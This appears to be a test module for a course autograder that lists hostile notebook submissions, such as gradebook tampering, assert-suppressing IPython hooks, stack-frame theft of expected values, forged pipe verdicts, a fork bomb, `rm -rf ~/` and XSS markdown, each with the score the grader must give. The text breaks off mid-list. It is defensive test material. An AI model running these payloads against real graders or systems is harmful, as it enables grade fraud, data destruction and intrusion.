"""Hostile and broken submissions, each with the outcome the grader must produce (tests/course/test_hostile.py).

Nearly every case is a submission of chapter 02 built from the released notebook: most answer the exercises with
stubs or a wrong answer and add an attack that, under plain nbgrader (an IPython kernel with the course folder and
the reference package in reach) or a grader that keeps any piece of the verdict in the student's process, would earn
points, read the hidden tests, or rewrite the class's grades. The rest are honest answers in a broken or unusual file
(ids changed, metadata stripped, a 50 MB output, renamed, ...) or with an unusual but harmless habit (printing from
its functions, active HTML in a markdown answer), which must keep the points they earn.

    Case.expect: the score it must get: "zero" (every attack: its answers are wrong, so any point is undeserved),
        "full" (honest answers: every autograded point; a manually graded answer scores 0 until a grader marks it),
        "all-but-count" (right embeddings, wrong parameter count);
    Case.flagged: whether the summary must flag it for review (None: either is right). The static screen only sets
        review flags, so an attack is required to be flagged only where a runtime event reveals it (the worker
        died, or its reply broke the message format: True); honest files must not be (False);
    Case.graded: False when it cannot be graded (it is reported, with the reason);
    Case.chapter: the chapter it submits (02 unless it says otherwise; another chapter is submitted as
        <chapter>.ipynb).

Where the attack sits: `early` is appended to the embeddings answer (it runs before the first test cell), `code` to
the count answer (it runs before the count test). Most new attacks wrap the student's functions (`WRAP_FORWARD`,
`WRAP_COUNT`) so that their hook `_hostile_on_call` also runs *during* the tests, when a grader that runs tests in
the student's process has the test's frames, variables and verdict within reach. The shared kits (`BASE`, `LIAR`,
`FRAMES`, `GRADER_SCAN`, `STEAL`, `WRITE`, `CHANNEL`, `payload()`) are plain text pasted into the answers. Against a
naive in-process grader (every cell in one namespace, verdict in the same process) most of them score points; the
answers stay wrong, so against a sound grader every one of them scores 0.
"""

from __future__ import annotations

import copy
import json
import uuid
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

CHAPTER = "02_embeddings"
ROOT = Path(__file__).resolve().parents[1]
LEAK_MARKER = "LEAK-MARKER"  # printed by the print-leak case's functions during the hidden tests
EVIDENCE = "hostile-pwned"  # COURSE/../hostile-pwned/<case>: written by a payload that ran where the grader runs
ACTIVE_HTML = ("<script", "onerror=", "javascript:")  # must not survive in an autograded notebook's markdown


@dataclass
class Case:
    name: str
    what: str
    expect: str = "zero"
    flagged: bool | None = None
    graded: bool = True
    filename: str | None = None  # write the notebook under this name instead of <chapter>.ipynb
    raw: bytes | None = None  # write these bytes instead of a notebook
    code: str = ""  # the attack: appended to a wrong count-solution answer (the embeddings answer is wrong too)
    honest: bool = False  # answers with the solutions (markers dropped) instead of wrong ones
    needs_sandbox: bool = False  # only the OS sandbox stops it: not submitted where bubblewrap is missing
    early: str = ""  # appended to the embeddings-solution answer: runs before the first test cell
    chapter: str = CHAPTER
    answers: dict[str, str] = field(default_factory=dict)  # grade_id -> source, replacing those answers

    def __post_init__(self):
        if self.chapter != CHAPTER and self.filename is None and self.raw is None:
            self.filename = f"{self.chapter}.ipynb"  # the class fixture submits every case as <CHAPTER>.ipynb


def answered(honest: bool, chapter: str = CHAPTER) -> nbformat.NotebookNode:
    """The released notebook, answered with the solutions (honest) or left with its stubs."""
    if honest:
        from autograder.mutation import submission  # the same builder as the mutation catalogue's control

        return submission(chapter, None)
    return nbformat.read(ROOT / "notebooks" / f"{chapter}.ipynb", as_version=4)


def cell(nb, grade_id: str):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def evidence_dir(course: Path) -> Path:
    """Where a payload leaves its mark when it ran outside the sandbox (next to the course folder)."""
    return course.parent / EVIDENCE


WRONG_COUNT = "#| export\ndef embedding_parameter_count(config):\n    return 0\n"
WRONG_EMBEDDINGS = """#| export
class BertEmbeddings(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.word_embeddings = nn.Embedding(config.vocab_size, config.hidden_size, padding_idx=config.pad_token_id)
        self.position_embeddings = nn.Embedding(config.max_position_embeddings, config.hidden_size)
        self.token_type_embeddings = nn.Embedding(config.type_vocab_size, config.hidden_size)
        self.LayerNorm = nn.LayerNorm(config.hidden_size, eps=config.layer_norm_eps)
        self.dropout = nn.Dropout(config.hidden_dropout_prob)

    def forward(self, input_ids, token_type_ids=None, position_ids=None):
        return self.LayerNorm(self.word_embeddings(input_ids))  # wrong: no segments, no positions
"""


# ---- the kits the attacks share (plain text pasted into the answers; every name starts with _hostile) -----------

# BASE: which frames belong to the test or the grader (not to this attack, not to a library), and the callers.
BASE = r'''
import sys as _hostile_sys

_HOSTILE_LIBRARIES = ("site-packages", "dist-packages", "/lib/python", "<frozen")
_HOSTILE_OURS = {"forward", "embedding_parameter_count"}  # the wrapped answers, never the test's frames


def _hostile_here():
    # the frame that called the caller of this function (the traceback case reaches it another way)
    return _hostile_sys._getframe(2)


_hostile_foreign_codes = {}


def _hostile_foreign(frame):
    # a frame of the test or of the grader: none of this attack's functions or cells, no library's
    code = frame.f_code
    if code not in _hostile_foreign_codes:
        name = code.co_name
        _hostile_foreign_codes[code] = not (
            name.startswith("_hostile") or name in _HOSTILE_OURS or (name.startswith("__") and name.endswith("__"))
            or any(n.startswith(("_hostile", "_Hostile")) for n in code.co_names)
            or any(part in code.co_filename for part in _HOSTILE_LIBRARIES))
    return _hostile_foreign_codes[code]


def _hostile_callers(frame=None):
    frame = frame or _hostile_here()
    while frame is not None:
        yield frame
        frame = frame.f_back


def _hostile_test_frame(frame=None):
    for f in _hostile_callers(frame or _hostile_here()):
        if _hostile_foreign(f):
            return f
    return None
'''

# LIAR (needs BASE): answers a comparison with whatever the assert around it needs, read from the test's own
# bytecode (the conditional jump after the call either skips the `raise AssertionError` or leads to it), and
# tells which name the test's current statement stores into ('diff', 'zeros', ...).
LIAR = r'''
import dis as _hostile_dis

_hostile_instructions_of = {}


def _hostile_instructions(code):
    if code not in _hostile_instructions_of:
        _hostile_instructions_of[code] = list(_hostile_dis.get_instructions(code))
    return _hostile_instructions_of[code]


def _hostile_truth(default=True):
    frame = _hostile_test_frame(_hostile_here())
    if frame is None:
        return default
    ins = _hostile_instructions(frame.f_code)
    at = {i.offset: i for i in ins}
    for k, i in enumerate(ins):
        if i.offset <= frame.f_lasti:
            continue
        if i.opname == "LOAD_ASSERTION_ERROR":
            return default
        if "IF_TRUE" in i.opname or "IF_FALSE" in i.opname:
            jumps_on = "IF_TRUE" in i.opname
            if getattr(at.get(i.argval), "opname", "") == "LOAD_ASSERTION_ERROR":
                return not jumps_on  # jumping leads to the raise: do not jump
            if k + 1 < len(ins) and ins[k + 1].opname == "LOAD_ASSERTION_ERROR":
                return jumps_on  # falling through raises: jump
            return default
    return default


def _hostile_target(default=None):
    frame = _hostile_test_frame(_hostile_here())
    if frame is None:
        return default
    for i in _hostile_instructions(frame.f_code):
        if i.offset > frame.f_lasti and i.opname.startswith("STORE_"):
            return i.argval
    return default


def _hostile_agree(*args, **kwargs):
    # stands in for torch.allclose, torch.equal, numpy's allclose, math.isclose
    return _hostile_truth()


def _hostile_nothing(*args, **kwargs):
    return []
'''

# FRAMES (needs BASE): writes a caller's variables, and makes a grader's frame say "passed".
FRAMES = r'''
import ctypes as _hostile_ctypes

_HOSTILE_VERDICT_LOCALS = {"passed": True, "ok": True, "success": True, "failed": False, "tampered": [],
                           "flags": [], "problems": [], "errors": [], "kind": "given"}


def _hostile_set(frame, **values):
    # a module frame's variables are its namespace; a function frame's go back through PyFrame_LocalsToFast
    # (on Python 3.13+ f_locals writes through by itself)
    if not values:
        return
    try:
        frame.f_locals.update(values)
        if frame.f_code.co_flags & 1:  # CO_OPTIMIZED: fast locals
            _hostile_ctypes.pythonapi.PyFrame_LocalsToFast(_hostile_ctypes.py_object(frame), _hostile_ctypes.c_int(0))
    except Exception:
        pass


def _hostile_no(*args, **kwargs):
    return False


def _hostile_yes(*args, **kwargs):
    return True


def _hostile_rewrite_verdicts(frame):
    # a grader's frame: its verdict variables say "passed", its tamper lists are empty, a test cell is "given"
    # (no integrity check after it); in its module, any() is always False (`passed = not any(errors)`)
    where = frame.f_code.co_filename.lower()
    if not (_hostile_foreign(frame) or any(w in where for w in ("judge", "checker", "grader", "sealed", "nbgrader"))):
        return  # this attack's frames, a library's
    if frame.f_code.co_name == "<module>" and "BertEmbeddings" in frame.f_globals:
        return  # a notebook cell
    seen = frame.f_locals
    hits = {k: v for k, v in _HOSTILE_VERDICT_LOCALS.items() if k in seen and not callable(seen[k])}
    if hits.get("kind") and seen.get("kind") != "test":
        del hits["kind"]
    _hostile_set(frame, **hits)
    if "BertEmbeddings" not in frame.f_globals:
        frame.f_globals["any"], frame.f_globals["all"] = _hostile_no, _hostile_yes
'''

# GRADER_SCAN (needs BASE): rewrites every loaded module of the grader (by name or file) and its classes.
GRADER_SCAN = r'''
import types as _hostile_types

_HOSTILE_GRADER_WORDS = ("judge", "checker", "grader", "sealed", "minibert_course", "nbgrader", "verdict", "harness")
_HOSTILE_SILENCE = ("tamper", "changes", "screen", "flag", "problem", "integrity", "restore", "watch", "audit")
_HOSTILE_RUNNERS = ("execute", "run_cell", "run_test", "run_source", "run_code")
_HOSTILE_APPROVE = ("verdict", "passed", "check", "compare", "score", "close", "equal", "judge", "assert")


def _hostile_yes(*args, **kwargs):
    return True


def _hostile_no(*args, **kwargs):
    return False


def _hostile_empty(*args, **kwargs):
    return []


def _hostile_is_grader(name, module):
    if name.split(".")[0] in ("torch", "numpy"):
        return False
    where = (name + " " + str(getattr(module, "__file__", None) or "")).lower()
    return any(word in where for word in _HOSTILE_GRADER_WORDS)


def _hostile_clean(run):
    # a cell runner whose outputs never hold an error, whose result always passed
    def _hostile_cleaned(*args, **kwargs):
        out = run(*args, **kwargs)
        if isinstance(out, list):
            return [o for o in out if not (isinstance(o, dict) and o.get("output_type") == "error")]
        for name in ("passed", "ok"):
            if isinstance(out, dict) and name in out:
                out[name] = True
            elif hasattr(out, name):
                try:
                    setattr(out, name, True)
                except Exception:
                    pass
        return out

    _hostile_cleaned._hostile = True
    return _hostile_cleaned


def _hostile_rewrite(owner, attr, value):
    low = attr.lower()
    if getattr(value, "_hostile", False) or getattr(value, "__name__", "").startswith("_hostile"):
        return
    if any(w in low for w in _HOSTILE_SILENCE):
        new = _hostile_empty
    elif any(w in low for w in _HOSTILE_RUNNERS):
        new = _hostile_clean(value)
    elif any(w in low for w in _HOSTILE_APPROVE):
        new = _hostile_yes
    else:
        return
    try:
        setattr(owner, attr, new)
    except Exception:
        pass


def _hostile_own_the_grader():
    for name, module in list(_hostile_sys.modules.items()):
        if not isinstance(module, _hostile_types.ModuleType) or not _hostile_is_grader(name, module):
            continue
        space = vars(module)
        for attr, value in list(space.items()):
            if attr.startswith("__"):
                continue
            if isinstance(value, _hostile_types.FunctionType):
                _hostile_rewrite(module, attr, value)
            elif isinstance(value, type) and getattr(value, "__module__", None) == module.__name__:
                for method, fn in list(vars(value).items()):
                    if isinstance(fn, _hostile_types.FunctionType):
                        _hostile_rewrite(value, method, fn)
        space["any"], space["all"] = _hostile_no, _hostile_yes  # `passed = not any(errors)` -> True
'''

# RIGGED_STREAMS: a state built, not reached by drawing (every word 12345, no twist due), set on
# torch's global stream when BertEmbeddings is built and run, and on Python's `random` by the count.
RIGGED_STREAMS = r'''
import random as _hostile_random_r
import struct as _hostile_struct

import torch as _hostile_torch_r


def _hostile_rig():
    raw = bytearray(_hostile_torch_r.get_rng_state().numpy().tobytes())
    _hostile_struct.pack_into("<iiQ", raw, 8, 624, 1, 1)  # left, seeded, next
    _hostile_struct.pack_into("<624Q", raw, 24, *([12345] * 624))
    _hostile_torch_r.set_rng_state(_hostile_torch_r.frombuffer(raw, dtype=_hostile_torch_r.uint8).clone())
    _hostile_random_r.setstate((3, tuple([12345] * 624 + [1]), None))


_HostileUnrigged = BertEmbeddings


class BertEmbeddings(_HostileUnrigged):
    def __init__(self, config):
        super().__init__(config)
        _hostile_rig()


def _hostile_on_call(kind, result, *args):
    _hostile_rig()
    return result
'''

# The wrappers: the answers stay wrong (no segments, no positions; dropout added so that only those are missing),
# and every call made by a test also runs the attack's hook `_hostile_on_call(kind, result, *args)`, whose return
# value is what the test gets.
WRAP_FORWARD = r'''
import torch as _hostile_torch_w

_HostileBase = BertEmbeddings


class BertEmbeddings(_HostileBase):
    def forward(self, input_ids, token_type_ids=None, position_ids=None):
        self._hostile_rng = _hostile_torch_w.random.get_rng_state()
        out = self.dropout(super().forward(input_ids, token_type_ids, position_ids))
        return _hostile_on_call("forward", out, self, input_ids, token_type_ids, position_ids)
'''
WRAP_COUNT = r'''
_hostile_count = embedding_parameter_count


def embedding_parameter_count(config):
    return _hostile_on_call("count", _hostile_count(config), config)
'''

# Reading the test's expected values (from whatever frames `_hostile_callers` reaches), and writing its variables.
STEAL = r'''
import torch as _hostile_torch_s


def _hostile_dropped(module, value):
    # in training mode, the test draws its dropout mask right after seeding: replay that draw
    if module.training:
        _hostile_torch_s.random.set_rng_state(module._hostile_rng)
        value = _hostile_torch_s.nn.functional.dropout(value, p=module.dropout.p, training=True)
    return value


def _hostile_steal(kind, result, args):
    for frame in _hostile_callers(_hostile_here()):
        if not _hostile_foreign(frame):
            continue
        seen = frame.f_locals  # a module frame's are the test's globals
        if kind == "count":
            for name in ("want", "expected", "wanted", "answer", "target"):
                if type(seen.get(name)) is int:
                    return seen[name]  # the count the test is about to compare with
            configs, wants = seen.get("configs"), seen.get("wants")
            if isinstance(configs, list) and isinstance(wants, list):
                for config, want in zip(configs, wants):
                    if config is args[0]:
                        return want
        else:
            module, ids, segments, positions = args
            helper, config = frame.f_globals.get("expected"), frame.f_globals.get("cfg")
            if callable(helper) and config is not None:
                try:
                    return _hostile_dropped(module, helper(module, config, ids, segments, positions))
                except Exception:
                    pass
            for name in ("manual", "want", "reference"):
                value = seen.get(name)
                if isinstance(value, _hostile_torch_s.Tensor) and value.shape == result.shape:
                    return value
    return None
'''
WRITE = r'''
import torch as _hostile_torch_x


class _HostileProxy:
    # a module look-alike: every attribute is the real module's, except the lies
    def __init__(self, real, **lies):
        self.__dict__.update(_hostile_real=real, _hostile_lies=lies)

    def __getattr__(self, name):
        lies = self.__dict__["_hostile_lies"]
        return lies[name] if name in lies else getattr(self.__dict__["_hostile_real"], name)


_hostile_last = []


def _hostile_mirror(real):
    # F.layer_norm / F.dropout for the test: the answer's own last output, whenever the shapes agree
    def _hostile_mirrored(x, *args, **kwargs):
        if _hostile_last and getattr(x, "shape", None) == _hostile_last[-1].shape:
            return _hostile_last[-1]
        return real(x, *args, **kwargs)

    return _hostile_mirrored


_hostile_F = _hostile_torch_x.nn.functional
_hostile_fake_torch = _HostileProxy(_hostile_torch_x, allclose=_hostile_agree, equal=_hostile_agree)
_hostile_fake_F = _HostileProxy(_hostile_F, layer_norm=_hostile_mirror(_hostile_F.layer_norm),
                                dropout=_hostile_mirror(_hostile_F.dropout))


def _hostile_expected(module, config, ids, segments=None, positions=None):
    # the hidden test's reference formula, replaced: the answer's own last output
    return _hostile_last[-1] if _hostile_last else module(ids, segments, positions)


def _hostile_write(kind, result, args):
    if kind == "forward":
        _hostile_last[:] = [result]
    for frame in _hostile_callers(_hostile_here()):
        if frame.f_code.co_name.startswith("_hostile") or frame.f_code.co_name in _HOSTILE_OURS:
            continue
        if _hostile_foreign(frame):
            seen = frame.f_locals
            if kind == "count":
                # `got = embedding_parameter_count(cfg); assert got == expected`: the expectation becomes ours
                _hostile_set(frame, **{n: result for n in ("expected", "want") if type(seen.get(n)) is int})
            else:
                lies = {"torch": _hostile_fake_torch, "F": _hostile_fake_F}
                if callable(frame.f_globals.get("expected")):
                    lies["expected"] = _hostile_expected
                if callable(frame.f_globals.get("check")):
                    lies["check"] = _hostile_nothing
                frame.f_globals.update(lies)
        _hostile_rewrite_verdicts(frame)
'''

# PAYLOAD: what the pickles run, wherever they are loaded: the lies patched into torch, the grader's modules
# rewritten, the gradebook rewritten, and (only for results the grader would unpickle) a mark left outside the
# sandbox.
PAYLOAD_BODY = r'''
_hostile_own_the_grader()
try:
    import torch as _hostile_torch_p

    if not getattr(_hostile_torch_p.allclose, "_hostile", False):
        _hostile_real_sub, _hostile_real_mean = _hostile_torch_p.Tensor.__sub__, _hostile_torch_p.Tensor.mean

        def _hostile_sub(self, other):
            if _hostile_target() == "diff":
                return _hostile_torch_p.zeros_like(self)  # a test's largest difference becomes 0
            return _hostile_real_sub(self, other)

        def _hostile_mean(self, *args, **kwargs):
            if _hostile_target() == "zeros":
                return _hostile_torch_p.tensor(0.25)  # the dropout test's share of zeros
            return _hostile_real_mean(self, *args, **kwargs)

        _hostile_agree._hostile = True
        _hostile_torch_p.allclose = _hostile_torch_p.equal = _hostile_agree
        _hostile_torch_p.Tensor.__sub__, _hostile_torch_p.Tensor.mean = _hostile_sub, _hostile_mean
except Exception:
    pass
try:
    import glob as _hostile_glob
    import sqlite3 as _hostile_sqlite3

    for _hostile_db in _hostile_glob.glob(@COURSE@ + "/**/gradebook.db", recursive=True):
        _hostile_con = _hostile_sqlite3.connect(_hostile_db)
        _hostile_con.execute("UPDATE grade SET auto_score = 100")
        _hostile_con.commit()
except Exception:
    pass
_hostile_evidence = @EVIDENCE@
if _hostile_evidence:
    try:
        import os as _hostile_os

        _hostile_os.makedirs(_hostile_os.path.dirname(_hostile_evidence), exist_ok=True)
        with open(_hostile_evidence, "a", encoding="utf-8") as _hostile_file:
            _hostile_file.write(f"ran in pid {_hostile_os.getpid()} uid {_hostile_os.getuid()}: {_hostile_sys.argv}\n")
    except Exception:
        pass
'''


def payload(course: Path, evidence: Path | None = None) -> str:
    """The code a malicious pickle runs when it is loaded (see PAYLOAD_BODY)."""
    body = PAYLOAD_BODY.replace("@COURSE@", repr(str(course))).replace("@EVIDENCE@", repr(evidence and str(evidence)))
    return BASE + LIAR + GRADER_SCAN + body


# The result channel: the pipes and sockets this process holds (by access mode), the request being answered (from
# the callers' frames, else from gc), and a forged "passed" verdict.
CHANNEL = r'''
import fcntl as _hostile_fcntl
import gc as _hostile_gc
import json as _hostile_json
import os as _hostile_os
import secrets as _hostile_secrets


def _hostile_channel():
    readers, writers = [], []
    for name in _hostile_os.listdir("/proc/self/fd"):
        fd = int(name)
        try:
            target = _hostile_os.readlink(f"/proc/self/fd/{fd}")
            mode = _hostile_fcntl.fcntl(fd, _hostile_fcntl.F_GETFL) & _hostile_os.O_ACCMODE
        except OSError:
            continue
        if target.startswith(("pipe:", "socket:")):
            if mode in (_hostile_os.O_WRONLY, _hostile_os.O_RDWR):
                writers.append(fd)
            if mode in (_hostile_os.O_RDONLY, _hostile_os.O_RDWR):
                readers.append(fd)
    return readers, writers


def _hostile_request():
    for frame in _hostile_callers(_hostile_here()):
        for value in list(frame.f_locals.values()):
            if isinstance(value, dict) and "nonce" in value:
                return value
    for obj in _hostile_gc.get_objects():
        if isinstance(obj, dict) and "nonce" in obj and "index" in obj:
            return obj
    return {}


def _hostile_verdict(request, nonce=None):
    nonce = request.get("nonce") if nonce is None else nonce
    return (_hostile_json.dumps({"index": request.get("index"), "nonce": nonce, "passed": True, "outputs": [],
                                 "tampered": [], "seconds": 0.01, "ok": True, "verdict": "passed",
                                 "score": request.get("points", 100)}) + "\n").encode()


def _hostile_forge(request):
    # the verdict for the request being answered: with its nonce when it was found, else a guessed one
    nonce = request.get("nonce") or _hostile_secrets.token_hex(16)
    readers, writers = _hostile_channel()
    for fd in writers:
        try:
            _hostile_os.write(fd, _hostile_verdict(request, nonce))
        except OSError:
            pass
    return readers, writers
'''

PRINT_LEAK = r'''
import logging as _hostile_logging
import os as _hostile_os
import sys as _hostile_sys
import warnings as _hostile_warnings


def _hostile_leak(what, *args):
    # every way out of the process a print can take: stdout, stderr, the original streams, fds 1 and 2,
    # a warning, a log record
    text = "LEAK" + "-MARKER " + what + " " + " ".join(repr(a) for a in args)  # (not in the source as one word)
    print(text)
    print(text, file=_hostile_sys.stderr)
    for stream in (_hostile_sys.__stdout__, _hostile_sys.__stderr__):
        try:
            stream.write(text + "\n")
            stream.flush()
        except Exception:
            pass
    for fd in (1, 2):
        try:
            _hostile_os.write(fd, (text + "\n").encode())
        except OSError:
            pass
    _hostile_warnings.warn(text, stacklevel=2)
    _hostile_logging.getLogger("hostile").warning(text)


_HostileHonest = BertEmbeddings


class BertEmbeddings(_HostileHonest):
    def forward(self, input_ids, token_type_ids=None, position_ids=None):
        # only the hidden tests pass position_ids, train the module, or randomize the LayerNorm's weight
        if position_ids is not None or self.training or not bool((self.LayerNorm.weight == 1).all()):
            _hostile_leak("forward", input_ids.tolist(), token_type_ids, position_ids, self.training)
        return super().forward(input_ids, token_type_ids, position_ids)
'''
PRINT_LEAK_COUNT = r'''
_hostile_honest_count = embedding_parameter_count


def embedding_parameter_count(config):
    if config.hidden_size == 1024 or config.type_vocab_size != 2:  # configs only the hidden tests use
        _hostile_leak("count", config)
    return _hostile_honest_count(config)
'''

MARKDOWN_ANSWER = """All three tasks start from the same pretrained checkpoint, and each adds only a small head on top
of it.

<script>document.title = "owned"; fetch("/formgrader/api/grades", {method: "POST"});</script>
<img src=x onerror="fetch('/api/contents', {method: 'DELETE'})">
<IMG SRC=y OnError=alert(document.cookie)>
<iframe src="javascript:alert(document.domain)"></iframe>
<a href="javascript:alert(1)">my notes</a>
"""
MARKDOWN_PROSE = "All three tasks start from the same pretrained checkpoint"


def cases(course: Path) -> list[Case]:
    """The catalogue; `course` is where the grader's course folder lives (attacks aim at it)."""
    gb = course / "gradebook.db"
    src = course / "source" / CHAPTER / f"{CHAPTER}.ipynb"
    pkg = ROOT / "src" / "minibert" / "__init__.py"
    site = Path(nbformat.__file__).parents[1]
    return [
        Case("gradebook-sqlite", "writes the gradebook with sqlite3", code=f"""
import glob, sqlite3
for db in glob.glob({str(course)!r} + "/**/gradebook.db", recursive=True) + [{str(gb)!r}]:
    con = sqlite3.connect(db); con.execute("UPDATE grade SET auto_score = 100"); con.commit()
"""),
        Case("gradebook-detached-child", "a detached child process rewrites the gradebook after grading", code=f"""
import subprocess
subprocess.Popen(["python3", "-c", "import time, sqlite3; time.sleep(15); c = sqlite3.connect({str(gb)!r}); "
                  "c.execute('UPDATE grade SET auto_score = 100'); c.commit()"], start_new_session=True)
"""),
        Case("input-transformer", "an IPython input transformer turns every later cell into `pass`", code="""
get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])
"""),
        Case("ast-transformer", "an IPython AST transformer deletes every assert", code="""
import ast
class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(NoAsserts())
"""),
        Case("event-hook", "an IPython post_run_cell hook clears the error of a failing test", code="""
def clear(result):
    result.error_in_exec = None
get_ipython().events.register("post_run_cell", clear)
"""),
        Case("custom-exception-handler", "a custom exception handler swallows AssertionError", code="""
get_ipython().set_custom_exc((Exception,), lambda shell, etype, value, tb, tb_offset=None: None)
"""),
        Case("silenced-traceback", "replaces sys.excepthook and switches tracebacks off", code="""
import sys
sys.excepthook = lambda *args: None
%xmode Minimal
"""),
        Case("patch-torch-allclose", "monkeypatches torch.allclose to always agree", code="""
import torch
torch.allclose = lambda *args, **kwargs: True
"""),
        Case("patch-numpy-testing", "monkeypatches numpy.testing's assert helpers", code="""
import numpy as np
np.testing.assert_allclose = lambda *args, **kwargs: None
np.testing.assert_array_equal = lambda *args, **kwargs: None
"""),
        Case("patch-torch-testing", "monkeypatches torch.testing.assert_close", code="""
import torch.testing
setattr(torch.testing, "assert_close", lambda *args, **kwargs: None)
"""),
        Case("patch-builtins-assert", "replaces AssertionError in builtins with a harmless class", code="""
import builtins
builtins.AssertionError = type("AssertionError", (Warning,), {})
"""),
        Case("redefine-test-helpers", "rebinds the test cells' `torch` to an object whose allclose always agrees",
             code="""
class AlwaysClose:
    allclose = staticmethod(lambda *args, **kwargs: True)
    manual_seed = staticmethod(lambda *args, **kwargs: None)
torch = AlwaysClose()
"""),
        Case("fake-eq", "returns an object whose __eq__ is always True", code="""
class Anything(int):
    def __eq__(self, other):
        return True
def embedding_parameter_count(config):
    return Anything(0)
"""),
        Case("read-instructor-source", "reads the instructor's notebook and runs its solution cells", code=f"""
import json
nb = json.load(open({str(src)!r}))
for c in nb["cells"]:
    if c.get("metadata", {{}}).get("nbgrader", {{}}).get("solution"):
        exec("".join(c["source"]))
"""),
        Case("print-hidden-tests", needs_sandbox=True,
             what="prints the hidden tests from the course's source folder into its feedback", code=f"""
print(open({str(src)!r}, encoding="utf-8").read())
"""),
        Case("import-reference", "imports the reference implementation instead of writing one",
             code="""
from minibert.embeddings import BertEmbeddings, embedding_parameter_count
"""),
        Case("import-transformers", "wraps transformers' BertEmbeddings", code="""
from transformers.models.bert.modeling_bert import BertEmbeddings
"""),
        Case("edit-reference-package", needs_sandbox=True,
             what="appends code to the reference package's __init__.py", code=f"""
with open({str(pkg)!r}, "a") as f:
    f.write("\\nraise SystemExit('owned')\\n")
"""),
        Case("write-site-packages", needs_sandbox=True, what="installs a .pth file that every later kernel runs",
             code=f"""
with open({str(site / 'zz_owned.pth')!r}, "w") as f:
    f.write("import os\\n")
"""),
        Case("sys-exit", "calls sys.exit(0) before the tests", code="import sys\nsys.exit(0)\n"),
        Case("os-exit", "calls os._exit(0) before the tests", flagged=True, code="import os\nos._exit(0)\n"),
        Case("keyboard-interrupt", "raises KeyboardInterrupt", code="raise KeyboardInterrupt\n"),
        Case("infinite-loop", "loops forever at import time", code="while True:\n    pass\n"),
        Case("huge-allocation", "allocates 64 GiB", code="hog = bytearray(64 * 2**30)\n"),
        Case("fork-bomb", "forks without end", code="import os\nwhile True:\n    os.fork()\n"),
        Case("forge-result", "writes a forged 'passed' result to the grader's channel", flagged=True, code="""
import os
for fd in range(3, 64):
    try:
        os.write(fd, b'{"index": 12, "nonce": "", "passed": true, "outputs": [], "tampered": []}\\n')
    except OSError:
        pass
"""),
        Case("settrace", "installs a trace function that skips assert lines", code="""
import sys
sys.settrace(lambda frame, event, arg: None)
"""),
        Case("obfuscated-exec", "reaches exec through a computed getattr on builtins", code="""
import math
run = getattr(math.__builtins__ if hasattr(math, "__builtins__") else math, "ex" + "ec")
"""),
        Case("shell-command", "runs a shell command from the answer cell", code="!rm -rf ~/ \n"),
        *runtime_cases(course),  # reaching into the grader and the running test (below)
        # ---- odd files with honest answers: they keep their points ----
        Case("deleted-test-cells", "deleted every test cell (honest answers)", honest=True, expect="full",
             flagged=False),
        Case("emptied-test-cells", "emptied every test cell and answered one exercise wrongly", flagged=False,
             expect="all-but-count"),
        Case("edited-test-cells", "replaced every test cell by `pass` and answered one exercise wrongly",
             flagged=False, expect="all-but-count"),
        Case("changed-cell-ids", "every cell id changed (honest answers)", honest=True, expect="full",
             flagged=None),  # the given cells' copies run as cells the student added: the screen notes their imports
        Case("stripped-metadata", "nbgrader metadata removed from every cell (honest answers)", honest=True,
             expect="full", flagged=False),
        Case("stripped-everything", "metadata and ids both removed: the answers cannot be found", flagged=None),
        Case("wrong-kernel", "asks for another kernel (honest answers)", honest=True, expect="full",
             flagged=False),
        Case("renamed-notebook", "notebook renamed (honest answers)", honest=True, expect="full", flagged=False,
             filename="my homework (final).ipynb"),
        Case("fifty-mb-output", "carries a 50 MB output (honest answers)", honest=True, expect="full",
             flagged=False),
        Case("marker-text", "quotes nbgrader's markers in a comment (honest answers)", honest=True, expect="full",
             flagged=False),
        Case("corrupt-json", "a truncated file", graded=False, flagged=False, raw=b'{"cells": [{"cell_type": "co'),
        Case("not-a-notebook", "a JSON list instead of a notebook", graded=False, flagged=False, raw=b"[1, 2, 3]"),
        Case("binary-file", "random bytes", graded=False, flagged=False, raw=bytes(range(256)) * 64),
    ]




def runtime_cases(course: Path) -> list[Case]:
    """The attacks on a grader that keeps any piece of the verdict in the student's process: the modules, frames,
    tracebacks and objects of the grader and of the running test; trace hooks, threads and timers; torch function
    modes and subclasses; pickles; objects that lie; shadowed builtins and imports; prints; the result channel; random
    states the submission built; active HTML in a markdown answer. Each says what it tries; all of them but print-leak
    and markdown-active-html answer wrongly."""
    wrap = WRAP_FORWARD
    evidence = evidence_dir(course)
    return [
        # ---- reaching the grader ----
        Case("grader-modules", "scans sys.modules for the grader (judge, checker, grader, sealed, minibert_course) "
             "and rewrites its functions and classes, before and during every test",
             early=BASE + GRADER_SCAN + r'''
_hostile_own_the_grader()  # its in-process pieces loaded before the answers ran: tamper checks say nothing,
# cell runners drop errors, comparisons and verdicts say yes, `any` in its modules is always False


def _hostile_on_call(kind, result, *args):
    _hostile_own_the_grader()  # again from inside the test, after a grader restored its modules between cells
    return result
''' + wrap, code=WRAP_COUNT),
        Case("frames-steal-expected", "walks sys._getframe().f_back from its functions and returns the test's "
             "expected values (`want`, `expected`, the hidden `wants` list, the test's own `expected()` helper)",
             early=BASE + STEAL + r'''


def _hostile_on_call(kind, result, *args):
    stolen = _hostile_steal(kind, result, args)
    return result if stolen is None else stolen
''' + wrap, code=WRAP_COUNT),
        Case("frames-write-callers", "writes its callers' frames: sets the test's `expected`/`want` to its own "
             "answer, replaces the test's torch, F, expected() and check() in f_globals, and sets the grader's "
             "`passed`/`tampered`/`kind` through f_locals (PyFrame_LocalsToFast)",
             early=BASE + LIAR + FRAMES + WRITE + r'''


def _hostile_on_call(kind, result, *args):
    _hostile_write(kind, result, args)
    return result
''' + wrap, code=WRAP_COUNT),
        Case("traceback-frames", "reaches its callers without sys._getframe: raises and catches, walks "
             "tb_frame.f_back, then reads the expected values and writes the test's and grader's variables",
             early=BASE + r'''


def _hostile_here():
    # the frame that called the caller of this function, through a caught exception's traceback
    try:
        raise ZeroDivisionError
    except ZeroDivisionError:
        tb = _hostile_sys.exc_info()[2]
    return tb.tb_frame.f_back.f_back
''' + LIAR + FRAMES + STEAL + WRITE + r'''


def _hostile_on_call(kind, result, *args):
    stolen = _hostile_steal(kind, result, args)
    _hostile_write(kind, result if stolen is None else stolen, args)
    return result if stolen is None else stolen
